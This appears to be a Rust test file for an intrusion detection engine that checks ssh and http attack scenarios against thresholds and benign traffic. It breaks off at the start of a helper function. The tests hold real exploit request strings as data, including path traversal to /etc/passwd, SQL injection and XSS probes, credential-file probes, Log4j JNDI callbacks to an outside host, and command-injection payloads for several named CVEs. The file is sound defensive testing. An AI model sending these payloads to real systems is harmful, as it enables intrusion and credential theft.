//! The built-in ssh and http scenarios against real attack traffic (payloads as they appear in access
//! and auth logs: CrowdSec hub documentation and tests, the formats' documentation, public exploit
//! write-ups), each at CrowdSec's published threshold and one below it, and a busy site's normal
//! traffic, which must raise nothing.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use sentinel_core::{Alert, Subject};
use sentinel_detect::scenario::{parse_scenarios, BUILTIN};
use sentinel_detect::{EngineOptions, ScenarioEngine};
use std::net::IpAddr;

mod common;
use common::Obs;

impl Obs {
    fn with(mut self, k: &'static str, v: &str) -> Self {
        self.fields.retain(|(f, _)| *f != k);
        self.fields.push((k, v.to_string()));
        self
    }
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn ssh(ts_ms: i64, src: &str, kind: &'static str) -> Obs {
    Obs {
        ts: ts_ms,
        kind,
        service: "sshd",
        ip: ip(src),
        fields: Vec::new(),
    }
}

/// An access-log request: `path` is the request target as sent (query included, undecoded).
fn req(ts_ms: i64, src: &str, method: &str, path: &str, status: u16) -> Obs {
    Obs {
        ts: ts_ms,
        kind: "http_request",
        service: "nginx",
        ip: ip(src),
        fields: vec![
            ("method", method.into()),
            ("path", path.into()),
            ("status", status.to_string()),
            ("bytes", "512".into()),
            ("vhost", "www.example.org".into()),
            (
                "user_agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".into(),
            ),
        ],
    }
}

fn engine() -> ScenarioEngine {
    ScenarioEngine::try_new(
        parse_scenarios("builtin", BUILTIN).unwrap(),
        EngineOptions::default(),
    )
    .unwrap()
}

fn run(e: &mut ScenarioEngine, obs: &[Obs]) -> Vec<Alert> {
    let mut out = Vec::new();
    for o in obs {
        e.observe(o, Some(&format!("{} {:?}", o.kind, o.fields)), &mut out);
    }
    out
}

fn fired(alerts: &[Alert], name: &str) -> bool {
    alerts.iter().any(|a| a.scenario == name)
}

/// `name` fires on the last of `events` and not before; and on a fresh engine, all but the last do
/// not make it fire (the threshold is exactly where CrowdSec puts it).
fn assert_fires_at(name: &str, events: &[Obs]) -> Alert {
    let (last, below) = events.split_last().unwrap();
    let mut e = engine();
    let before = run(&mut e, below);
    assert!(
        !fired(&before, name),
        "{name} fired before its threshold ({} events)",
        below.len()
    );
    let at = run(&mut e, std::slice::from_ref(last));
    assert!(
        fired(&at, name),
        "{name} did not fire at its threshold ({} events); got {:?}",
        events.len(),
        at.iter().map(|a| a.scenario.as_str()).collect::<Vec<_>>()
    );
    at.into_iter().find(|a| a.scenario == name).unwrap()
}

/// `name` never fires on `events`.
fn assert_silent(name: &str, events: &[Obs]) {
    let mut e = engine();
    let out = run(&mut e, events);
    assert!(!fired(&out, name), "{name} fired on benign traffic");
}

// ------------------------------------------------------------------------------------------- ssh

#[test]
fn ssh_bruteforce_counts_failed_logins_and_bad_banners_like_crowdsec() {
    // sshd: "Failed password for root from …", "Invalid user admin from …", "Disconnected from
    // authenticating user root … [preauth]" (an auth_failure), "banner exchange: … invalid format".
    let src = "203.0.113.10";
    let mut ev: Vec<Obs> = vec![
        ssh(0, src, "auth_failure").with("user", "root"),
        ssh(100, src, "invalid_user").with("user", "admin"),
        ssh(200, src, "auth_failure").with("user", "admin"),
        ssh(300, src, "protocol_probe").with("probe", "banner"),
        ssh(400, src, "auth_failure").with("user", "root"),
    ];
    assert_silent("ssh_bruteforce", &ev);
    ev.push(ssh(500, src, "auth_failure").with("user", "root"));
    let a = assert_fires_at("ssh_bruteforce", &ev);
    assert_eq!(a.subject, Subject::Ip(ip(src)));
    // Other protocol probes (timeouts, kex errors) are not failed logins.
    let probes: Vec<Obs> = (0..6)
        .map(|i| ssh(i * 100, src, "protocol_probe").with("probe", "kex_ident"))
        .collect();
    assert_silent("ssh_bruteforce", &probes);
}

#[test]
fn ssh_slow_bruteforce_fires_on_the_fifteenth_failure_twenty_seconds_apart() {
    // Capacity 10, one leaks per minute: at one failure every 20 s the bucket overflows on the 15th.
    let ev: Vec<Obs> = (0..15)
        .map(|i| ssh(i * 20_000, "198.51.100.20", "auth_failure").with("user", "root"))
        .collect();
    assert_fires_at("ssh_slow_bruteforce", &ev);
    assert_silent("ssh_bruteforce", &ev);
}

#[test]
fn ssh_user_enumeration_fast_and_slow() {
    let users = [
        "admin",
        "test",
        "oracle",
        "ubuntu",
        "postgres",
        "git",
        "user",
        "ftpuser",
        "pi",
        "support",
        "guest",
        "deploy",
        "hadoop",
        "minecraft",
    ];
    // Fast: six distinct users in a burst.
    let fast: Vec<Obs> = users[..6]
        .iter()
        .enumerate()
        .map(|(i, u)| ssh(i as i64 * 200, "203.0.113.11", "invalid_user").with("user", u))
        .collect();
    assert_fires_at("ssh_user_enumeration", &fast);
    // Slow: one distinct user every 15 s; the fast bucket never fills, the slow one overflows on the 14th.
    let slow: Vec<Obs> = users
        .iter()
        .enumerate()
        .map(|(i, u)| ssh(i as i64 * 15_000, "203.0.113.12", "invalid_user").with("user", u))
        .collect();
    assert_fires_at("ssh_slow_user_enumeration", &slow);
    assert_silent("ssh_user_enumeration", &slow);
    // A user mistyping their own password twenty times is not enumeration.
    let same: Vec<Obs> = (0..20)
        .map(|i| ssh(i * 1000, "203.0.113.13", "auth_failure").with("user", "alice"))
        .collect();
    assert_silent("ssh_user_enumeration", &same);
    assert_silent("ssh_slow_user_enumeration", &same);
}

#[test]
fn ssh_time_based_bruteforce_needs_slow_regular_failures_without_success() {
    let src = "192.0.2.30";
    let min = 60_000;
    let ev = [
        ssh(0, src, "auth_failure").with("user", "root"),
        ssh(6 * min, src, "auth_failure").with("user", "root"),
        ssh(12 * min, src, "auth_failure").with("user", "root"),
    ];
    let a = assert_fires_at("ssh_time_based_bruteforce", &ev);
    assert!(
        a.reasons[0].detail.contains("median"),
        "{}",
        a.reasons[0].detail
    );
    // A successful login in between cancels the count.
    let with_success = [
        ev[0].clone(),
        ev[1].clone(),
        ssh(8 * min, src, "auth_success").with("user", "root"),
        ev[2].clone(),
    ];
    assert_silent("ssh_time_based_bruteforce", &with_success);
    // Failures a minute apart are not time-based (the rate scenarios judge them).
    let quick: Vec<Obs> = (0..3)
        .map(|i| ssh(i * min, src, "auth_failure").with("user", "root"))
        .collect();
    assert_silent("ssh_time_based_bruteforce", &quick);
    // More than two hours between failures starts over.
    let sparse: Vec<Obs> = [0, 3 * 60, 6 * 60]
        .iter()
        .map(|m| ssh(m * min, src, "auth_failure").with("user", "root"))
        .collect();
    assert_silent("ssh_time_based_bruteforce", &sparse);
}

#[test]
fn ssh_refused_connections_and_protocol_probes() {
    // "Unable to negotiate with 203.0.113.14 port 52210: no matching key exchange method found."
    let neg = [ssh(0, "203.0.113.14", "protocol_probe").with("probe", "negotiate")];
    assert_fires_at("ssh_refused_connection", &neg);
    // "error: kex_exchange_identification: Connection closed by remote host", "Connection reset by
    // … [preauth]", "Did not receive identification string from …": eleven in a burst.
    let kinds = [
        "kex_ident",
        "no_ident",
        "reset_preauth",
        "closed_preauth",
        "dispatch_fatal",
    ];
    let probes: Vec<Obs> = (0..11)
        .map(|i| {
            ssh(i * 300, "203.0.113.15", "protocol_probe").with("probe", kinds[i as usize % 5])
        })
        .collect();
    assert_fires_at("ssh_protocol_probe", &probes);
    // "fatal: Timeout before authentication for 203.0.113.16 port 40312": 21 in a burst (regreSSHion).
    let timeouts: Vec<Obs> = (0..21)
        .map(|i| ssh(i * 50, "203.0.113.16", "protocol_probe").with("probe", "timeout"))
        .collect();
    assert_fires_at("ssh_auth_timeout_flood", &timeouts);
    // One client timing out now and then is nothing.
    let rare: Vec<Obs> = (0..50)
        .map(|i| ssh(i * 60_000, "203.0.113.17", "protocol_probe").with("probe", "timeout"))
        .collect();
    assert_silent("ssh_auth_timeout_flood", &rare);
    assert_silent("ssh_protocol_probe", &rare);
}

// ---------------------------------------------------------------------------------- http probes

#[test]
fn http_probing_is_per_source_and_virtual_host() {
    let src = "198.51.100.40";
    let on =
        |host: &str, i: i64| req(i, src, "GET", &format!("/old-{i}.php"), 404).with("vhost", host);
    // Six distinct missing paths on each of two virtual hosts: neither bucket overflows.
    let split: Vec<Obs> = (0..12)
        .map(|i| {
            on(
                if i % 2 == 0 {
                    "a.example.org"
                } else {
                    "b.example.org"
                },
                i,
            )
        })
        .collect();
    assert_silent("http_probing", &split);
    let one: Vec<Obs> = (0..11).map(|i| on("a.example.org", i)).collect();
    assert_fires_at("http_probing", &one);
}

#[test]
fn http_crawl_of_non_static_pages() {
    let src = "203.0.113.50";
    let pages: Vec<Obs> = (0..41)
        .map(|i| req(i * 10, src, "GET", &format!("/product/{i}"), 200))
        .collect();
    assert_fires_at("http_crawl_non_static", &pages);
    // Static assets, and one page with many query strings (same file name), do not count.
    let assets: Vec<Obs> = (0..200)
        .map(|i| req(i * 10, src, "GET", &format!("/static/app.{i}.js"), 200))
        .collect();
    assert_silent("http_crawl_non_static", &assets);
    let queries: Vec<Obs> = (0..200)
        .map(|i| req(i * 10, src, "GET", &format!("/search?q=item{i}"), 200))
        .collect();
    assert_silent("http_crawl_non_static", &queries);
    // A search engine fetching one page every two seconds for an hour is not aggressive.
    let bot: Vec<Obs> = (0..1800)
        .map(|i| {
            req(
                i * 2000,
                "66.249.66.1",
                "GET",
                &format!("/article/{i}"),
                200,
            )
            .with(
                "user_agent",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            )
        })
        .collect();
    assert_silent("http_crawl_non_static", &bot);
}

#[test]
fn http_sensitive_files_cover_dot_files_and_backups() {
    let src = "192.0.2.60";
    let paths = [
        "/.env",
        "/.git/config",
        "/.aws/credentials",
        "/wp-config.php.bak",
        "/backup.sql.gz",
    ];
    let ev: Vec<Obs> = paths.iter().map(|p| req(0, src, "GET", p, 404)).collect();
    assert_fires_at("http_sensitive_files", &ev);
    // Encoded and query-carrying forms, and the rest of the list.
    let more = [
        "/.%65nv",
        "/.git/HEAD?x=1",
        "/.svn/entries",
        "/.DS_Store",
        "/config.php.save",
        "/.ssh/id_rsa",
        "/.bash_history",
        "/index.php~",
        "/.htpasswd",
        "/db.sqlite3",
    ];
    let ev: Vec<Obs> = more.iter().map(|p| req(0, src, "GET", p, 404)).collect();
    let mut e = engine();
    assert!(fired(&run(&mut e, &ev[..5]), "http_sensitive_files"));
    let mut e = engine();
    assert!(fired(&run(&mut e, &ev[5..]), "http_sensitive_files"));
    // Pages whose names merely mention those words.
    let benign: Vec<Obs> = [
        "/environment",
        "/blog/git-tips",
        "/docs/config",
        "/about/backup-policy",
        "/search?q=.env+file",
        "/downloads/report.pdf",
        "/api/v1/sql-tutorial",
    ]
    .iter()
    .map(|p| req(0, src, "GET", p, 200))
    .collect();
    assert_silent("http_sensitive_files", &benign);
}

#[test]
fn http_bad_user_agents_are_scanners_not_browsers() {
    let scanners = [
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322) ZmEu",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; pt-PT; rv:1.9.1.2) Gecko/20090729 Firefox/3.5.2 (.NET CLR 3.5.30729) Morfeus Fucking Scanner",
        "gobuster/3.6",
    ];
    for ua in scanners {
        let ev = [
            req(0, "203.0.113.70", "GET", "/", 404).with("user_agent", ua),
            req(100, "203.0.113.70", "GET", "/x", 404).with("user_agent", ua),
        ];
        assert_fires_at("http_bad_user_agent", &ev);
    }
    let browsers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Prometheus/2.53.0",
        "kube-probe/1.30",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    ];
    for ua in browsers {
        let ev: Vec<Obs> = (0..10)
            .map(|i| req(i * 100, "198.51.100.71", "GET", "/", 200).with("user_agent", ua))
            .collect();
        assert_silent("http_bad_user_agent", &ev);
    }
}

#[test]
fn http_path_traversal_plain_and_encoded() {
    let src = "203.0.113.80";
    let paths = [
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/index.php?page=../../../../etc/passwd",
        "/static/..%252f..%252f..%252f..%252fetc%252fshadow",
        "/?file=php://filter/convert.base64-encode/resource=index.php",
    ];
    let ev: Vec<Obs> = paths.iter().map(|p| req(0, src, "GET", p, 400)).collect();
    assert_fires_at("http_path_traversal", &ev);
    // The same traversal again and again is one distinct path (CrowdSec's false-positive guard).
    let same: Vec<Obs> = (0..10).map(|i| req(i, src, "GET", "/../FP", 400)).collect();
    assert_silent("http_path_traversal", &same);
    let benign: Vec<Obs> = [
        "/docs/etc/",
        "/proc-edure",
        "/a/b/c.html",
        "/files/dot..dot.txt",
    ]
    .iter()
    .map(|p| req(0, src, "GET", p, 200))
    .collect();
    assert_silent("http_path_traversal", &benign);
}

#[test]
fn http_sqli_probing_needs_eleven_distinct_payloads() {
    // sqlmap and manual probes as they appear in access logs (undecoded).
    let payloads = [
        "/item.php?id=1%20AND%20SLEEP(5)",
        "/item.php?id=1'%20UNION%20SELECT%20NULL,NULL--%20-",
        "/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
        "/item.php?id=1)%20AND%20(SELECT%207361%20FROM%20(SELECT(SLEEP(5)))abc)",
        "/item.php?id=1%20AND%201=1--",
        "/item.php?id=1'%20OR%20'1'='1",
        "/item.php?id=-1+union+select+1,@@version,3",
        "/item.php?id=1;WAITFOR%20DELAY%20'0:0:5'--",
        "/item.php?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,version()))",
        "/item.php?id=1'%20AND%20BENCHMARK(5000000,MD5(1))--",
        "/item.php?id=1%20and%20pg_sleep(5)--",
    ];
    let ev: Vec<Obs> = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| req(i as i64 * 20, "192.0.2.90", "GET", p, 200))
        .collect();
    assert_fires_at("http_sqli_probing", &ev);
    // CrowdSec's own test: SLEEP%28N) for N = 1..11.
    let hub: Vec<Obs> = (1..=11)
        .map(|n| {
            req(
                0,
                "192.0.2.91",
                "GET",
                &format!("/test.php?foobar=SLEEP%28{n})"),
                200,
            )
        })
        .collect();
    assert_fires_at("http_sqli_probing", &hub);
    // ... and the same payload repeated never fires.
    let repeated: Vec<Obs> = (0..30)
        .map(|_| req(0, "192.0.2.92", "GET", "/test.php?foobar=SLEEP%2811)", 200))
        .collect();
    assert_silent("http_sqli_probing", &repeated);
}

#[test]
fn http_xss_probing_needs_six_distinct_payloads() {
    let payloads = [
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E",
        "/search?q=%3Csvg/onload=prompt(1)%3E",
        "/search?q=javascript:alert(1)",
        "/search?q=%253Cscript%253Econfirm(1)%253C%252Fscript%253E",
        "/search?q=%3Ciframe%20src=javascript:alert(1)%3E",
    ];
    let ev: Vec<Obs> = payloads
        .iter()
        .map(|p| req(0, "198.51.100.95", "GET", p, 200))
        .collect();
    assert_fires_at("http_xss_probing", &ev);
}

#[test]
fn searches_with_quotes_and_sql_words_are_not_injection() {
    let queries = [
        "q=O%27Brien",
        "q=O'Brien+%26+Sons",
        "q=%22union+select%22",
        "q=select+committee+report",
        "q=union+station+chicago",
        "q=the+select+menu",
        "q=credit+union+select+account",
        "q=rock%27n%27roll",
        "q=%22don%27t+stop%22",
        "q=1%3D1",
        "q=a%3Cb",
        "q=I+%3C3+cats",
        "q=how+to+sleep+better",
        "q=substring+in+java",
        "q=%3Cb%3Ebold%3C%2Fb%3E",
        "sort=name&order=desc",
        "q=drop+shipping",
    ];
    let mut ev = Vec::new();
    for (i, q) in queries.iter().enumerate() {
        for page in 1..4 {
            ev.push(req(
                (i * 3 + page) as i64 * 10,
                "203.0.113.96",
                "GET",
                &format!("/search?{q}&page={page}"),
                200,
            ));
        }
    }
    // Paths that contain the words too.
    ev.push(req(
        1000,
        "203.0.113.96",
        "GET",
        "/products/select-union-jack-flag",
        200,
    ));
    ev.push(req(
        1010,
        "203.0.113.96",
        "GET",
        "/blog/union-select-explained",
        200,
    ));
    assert_silent("http_sqli_probing", &ev);
    assert_silent("http_xss_probing", &ev);
    assert_silent("http_path_traversal", &ev);
}

#[test]
fn http_backdoors_admin_interfaces_wordpress_and_open_proxy() {
    let bd = [
        req(
            0,
            "192.0.2.100",
            "GET",
            "/wp-content/plugins/hello/c99.php",
            404,
        ),
        req(100, "192.0.2.100", "POST", "/alfa.php", 404),
    ];
    assert_fires_at("http_backdoor_attempts", &bd);
    let benign: Vec<Obs> = ["/index.php", "/upload.php", "/login.php", "/cart.php"]
        .iter()
        .map(|p| req(0, "192.0.2.101", "GET", p, 200))
        .collect();
    assert_silent("http_backdoor_attempts", &benign);

    let admin: Vec<Obs> = [
        "/phpmyadmin/",
        "/pma/index.php",
        "/admin/",
        "/administrator/",
        "/manager/html",
    ]
    .iter()
    .map(|p| req(0, "192.0.2.102", "GET", p, 404))
    .collect();
    assert_fires_at("http_admin_interface_probing", &admin);
    // The site's own admin answering 200 is administration, not probing.
    let own: Vec<Obs> = (0..30)
        .map(|i| {
            req(
                i * 100,
                "192.0.2.103",
                "GET",
                &format!("/admin/orders/{i}"),
                200,
            )
        })
        .collect();
    assert_silent("http_admin_interface_probing", &own);

    let wp: Vec<Obs> = [
        "/wp-login.php",
        "/wp-admin/install.php",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        "/wp-admin/setup-config.php",
    ]
    .iter()
    .map(|p| req(0, "192.0.2.104", "GET", p, 404))
    .collect();
    assert_fires_at("http_wordpress_scan", &wp);
    let wp_site: Vec<Obs> = (0..50)
        .map(|i| {
            req(
                i * 500,
                "192.0.2.105",
                "POST",
                "/wp-admin/admin-ajax.php",
                200,
            )
        })
        .collect();
    assert_silent("http_wordpress_scan", &wp_site);

    let wpconfig: Vec<Obs> = [
        "/wp-config.php.bak",
        "/wp-config.php.old",
        "/wp-config.php.save",
        "/wp-config.php~",
        "/wp-config.php.swp",
        "/wp-config.php.txt",
    ]
    .iter()
    .map(|p| req(0, "192.0.2.106", "GET", p, 404))
    .collect();
    assert_fires_at("http_wordpress_wpconfig", &wpconfig);

    // "CONNECT www.example.com:443 HTTP/1.1" 405 (apache), "GET http://… HTTP/1.1" 400 (nginx).
    assert_fires_at(
        "http_open_proxy",
        &[req(0, "192.0.2.107", "CONNECT", "www.example.com:443", 405)],
    );
    assert_fires_at(
        "http_open_proxy",
        &[req(0, "192.0.2.108", "GET", "http://www.example.com/", 400)],
    );
    assert_silent(
        "http_open_proxy",
        &[
            req(0, "192.0.2.109", "GET", "/http://mirror/", 404),
            req(0, "192.0.2.109", "GET", "http://www.example.org/", 200),
        ],
    );

    // "GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400
    assert_fires_at(
        "http_w00tw00t",
        &[req(
            0,
            "192.0.2.110",
            "GET",
            "/w00tw00t.at.ISC.SANS.DFind:)",
            400,
        )],
    );
}

#[test]
fn http_authentication_and_rate_limit_scenarios() {
    let src = "203.0.113.120";
    let auth: Vec<Obs> = (0..6)
        .map(|i| Obs {
            ts: i * 500,
            kind: "http_auth_failure",
            service: "nginx",
            ip: ip(src),
            fields: vec![("user", "admin".into())],
        })
        .collect();
    assert_fires_at("http_auth_bruteforce", &auth);
    let p401: Vec<Obs> = (0..6)
        .map(|i| req(i * 500, src, "POST", "/api/token", 401))
        .collect();
    assert_fires_at("http_post_401_bruteforce", &p401);
    let p403: Vec<Obs> = (0..6)
        .map(|i| req(i * 500, src, "POST", "/graphql", 403))
        .collect();
    assert_fires_at("http_post_403_bruteforce", &p403);
    // nginx: "limiting requests, excess: 10.520 by zone "one", client: 203.0.113.121, …"
    let limited: Vec<Obs> = (0..6)
        .map(|i| Obs {
            ts: i * 5000,
            kind: "http_rate_limited",
            service: "nginx",
            ip: ip("203.0.113.121"),
            fields: vec![("zone", "one".into())],
        })
        .collect();
    assert_fires_at("http_limit_req_exceeded", &limited);
}

// ------------------------------------------------------------------------------------------- DoS

#[test]
fn http_dos_from_one_source() {
    let src = "198.51.100.130";
    // 501 requests within 10 ms (half a unit leaks meanwhile).
    let flood: Vec<Obs> = (0..501)
        .map(|i| req(i / 50, src, "GET", "/", 200))
        .collect();
    assert_fires_at("http_dos_flood", &flood);
    // LOIC: random six-letter upper-case URIs.
    let loic: Vec<Obs> = (0..31)
        .map(|i| {
            let frag: String = (0..6)
                .map(|k| char::from(b'A' + ((i * 7 + k * 3) % 26) as u8))
                .collect();
            req(i * 20, src, "GET", &format!("/{frag}"), 404)
        })
        .collect();
    assert_fires_at("http_dos_random_uri", &loic);
}

#[test]
fn http_dos_distributed_groups_by_url_and_names_the_top_sources() {
    // 50 sources, one of them much busier, on one URL: 2001 requests at once.
    let srcs: Vec<String> = (1..=50).map(|i| format!("203.0.113.{i}")).collect();
    let flood: Vec<Obs> = (0..2001)
        .map(|i| {
            let s = if i % 4 == 0 {
                "198.51.100.200"
            } else {
                srcs[i % 50].as_str()
            };
            req(0, s, "GET", "/search?q=x", 200)
        })
        .collect();
    let a = assert_fires_at("http_dos_distributed", &flood);
    assert_eq!(a.subject, Subject::Ip(ip("198.51.100.200")));
    let d = &a.reasons[0].detail;
    assert!(d.contains("www.example.org /search"), "{d}");
    assert!(d.contains("198.51.100.200 (501)"), "{d}");
    assert!(d.contains("51 sources"), "{d}");
    // The same volume from ten sources is not distributed (each may be a per-source flood).
    let few: Vec<Obs> = (0..3000)
        .map(|i| req(i as i64 / 4, srcs[i % 10].as_str(), "GET", "/search", 200))
        .collect();
    assert_silent("http_dos_distributed", &few);
    // The same volume spread over many URLs is not one URL under attack.
    let spread: Vec<Obs> = (0..3000)
        .map(|i| {
            req(
                i as i64 / 4,
                srcs[i % 50].as_str(),
                "GET",
                &format!("/p/{}", i % 3),
                200,
            )
        })
        .collect();
    assert_silent("http_dos_distributed", &spread);
}

// ------------------------------------------------------------------------------------------- CVEs

#[test]
fn each_http_cve_fires_on_its_exploit_request() {
    let ua = |o: Obs, v: &str| o.with("user_agent", v);
    let cases: Vec<(&str, Vec<Obs>)> = vec![
        ("http_cve_2021_41773", vec![req(0, "192.0.2.1", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400)]),
        ("http_cve_2021_42013", vec![req(0, "192.0.2.1", "GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", 400)]),
        ("http_cve_2021_43798_grafana", vec![req(0, "192.0.2.1", "GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", 400)]),
        ("http_cve_2021_43798_grafana", vec![req(0, "192.0.2.1", "GET", "/public/plugins/welcome/%2E%2E/%2E%2E/%2E%2E/%2E%2E/etc/passwd", 400)]),
        ("http_vmsa_2021_0027_vcenter", vec![req(0, "192.0.2.1", "GET", "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd", 200)]),
        ("http_cve_2018_13379_fortinet", vec![req(0, "192.0.2.1", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200)]),
        ("http_cve_2019_11510_pulse_secure", vec![req(0, "192.0.2.1", "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/", 200)]),
        ("http_cve_2020_5902_f5_bigip", vec![req(0, "192.0.2.1", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 200)]),
        ("http_cve_2018_20062_thinkphp", vec![req(0, "192.0.2.1", "GET", "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", 200)]),
        ("http_cve_2018_20062_thinkphp", vec![req(0, "192.0.2.1", "GET", "/index.php?s=index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", 200)]),
        ("http_log4j_jndi", vec![req(0, "192.0.2.1", "GET", "/?x=${jndi:ldap://198.51.100.9:1389/a}", 400)]),
        ("http_log4j_jndi", vec![ua(req(0, "192.0.2.1", "GET", "/", 200), "${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://198.51.100.9/o}")]),
        ("http_log4j_jndi", vec![req(0, "192.0.2.1", "GET", "/", 200).with("referer", "%24%7Bjndi%3Adns%3A%2F%2F198.51.100.9%2Fz%7D")]),
        ("http_cve_2021_26086_jira", vec![req(0, "192.0.2.1", "GET", "/s/cfx/_/;/WEB-INF/web.xml", 200)]),
        ("http_cve_2021_26086_jira", vec![req(0, "192.0.2.1", "GET", "/_/%3b/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties", 200)]),
        ("http_spring4shell", vec![req(0, "192.0.2.1", "GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", 200)]),
        ("http_cve_2022_22954_vmware", vec![req(0, "192.0.2.1", "GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%63%61%74%20%2f%65%74%63%2f%68%6f%73%74%73%22%29%7d", 400)]),
        ("http_cve_2022_37042_zimbra", vec![req(0, "192.0.2.1", "POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", 401)]),
        ("http_cve_2022_41082_exchange", vec![req(0, "192.0.2.1", "GET", "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell", 200)]),
        ("http_cve_2022_35914_glpi", vec![req(0, "192.0.2.1", "POST", "/vendor/htmlawed/htmlawed/htmLawedTest.php", 200)]),
        ("http_cve_2022_40684_fortinet", vec![ua(req(0, "192.0.2.1", "PUT", "/api/v2/cmdb/system/admin/admin", 200), "Report Runner")]),
        ("http_cve_2022_26134_confluence", vec![req(0, "192.0.2.1", "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", 302)]),
        ("http_cve_2022_42889_text4shell", vec![req(0, "192.0.2.1", "GET", "/search?query=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27touch%20%2Ftmp%2Fx%27)%7D", 200)]),
        ("http_cve_2022_46169_cacti_cmd", vec![req(0, "192.0.2.1", "GET", "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1%3Bid", 200)]),
        ("http_cve_2022_44877_cwp", vec![req(0, "192.0.2.1", "POST", "/login/index.php?login=$(echo${IFS}cHduZWQ=|base64${IFS}-d)", 302)]),
    ];
    for (name, ev) in &cases {
        assert_fires_at(name, ev);
    }
    // The leaky ones: six in a burst.
    let ghost: Vec<Obs> = (0..6)
        .map(|i| {
            req(
                i * 100,
                "192.0.2.2",
                "POST",
                "/ghost/api/admin/session",
                404,
            )
        })
        .collect();
    assert_fires_at("http_cve_2022_41697_ghost", &ghost);
    let cacti: Vec<Obs> = (0..6)
        .map(|i| {
            req(
                i * 100,
                "192.0.2.3",
                "GET",
                &format!(
                    "/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id={i}&poller_id=1"
                ),
                403,
            )
        })
        .collect();
    assert_fires_at("http_cve_2022_46169_cacti_bruteforce", &cacti);
    // Near misses: the same endpoints used normally.
    let near = [
        req(
            0,
            "192.0.2.4",
            "GET",
            "/public/plugins/alertlist/module.js",
            200,
        ),
        req(
            0,
            "192.0.2.4",
            "GET",
            "/api/v2/cmdb/system/admin/admin",
            200,
        ),
        req(0, "192.0.2.4", "POST", "/ghost/api/admin/session", 201),
        req(
            0,
            "192.0.2.4",
            "GET",
            "/autodiscover/autodiscover.json?Email=a@example.org",
            200,
        ),
        req(0, "192.0.2.4", "POST", "/login/index.php?login=alice", 302),
        req(0, "192.0.2.4", "GET", "/docs/classloader.html", 200),
        req(0, "192.0.2.4", "GET", "/search?q=%24%7Bprice%7D", 200),
    ];
    let mut e = engine();
    let out = run(&mut e, &near);
    assert!(
        out.is_empty(),
        "{:?}",
        out.iter().map(|a| a.scenario.as_str()).collect::<Vec<_>>()
    );
}

// --------------------------------------------------------------------------- a busy site's day

/// Normal traffic on a busy site for two hours: 600 visitors browsing pages with their static assets,
/// searching (quotes, apostrophes, SQL words), calling the JSON API, posting to the cart, logging in
/// (once in a while mistyping), a few missing favicons; a CDN health checker hitting /healthz every
/// second, an uptime monitor, and Googlebot at a page every two seconds.
fn busy_site() -> Vec<Obs> {
    let mut ev = Vec::new();
